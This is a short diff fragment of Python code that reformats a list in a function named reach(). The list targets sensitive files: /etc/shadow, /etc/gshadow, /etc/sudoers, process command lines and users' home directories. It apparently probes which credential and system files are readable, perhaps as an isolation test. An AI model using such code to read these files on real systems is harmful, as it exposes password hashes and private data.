@@ -23,7 +23,13 @@ def right(x, y):
 
 
 def reach():
-    candidates = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline"]
+    candidates = [
+        "/etc/shadow",
+        "/etc/gshadow",
+        "/etc/sudoers",
+        "/proc/1/cmdline",
+        f"/proc/{os.getppid()}/cmdline",
+    ]
     for home in ("/root", "/home"):
         try:
             candidates += [os.path.join(home, name) for name in os.listdir(home)]
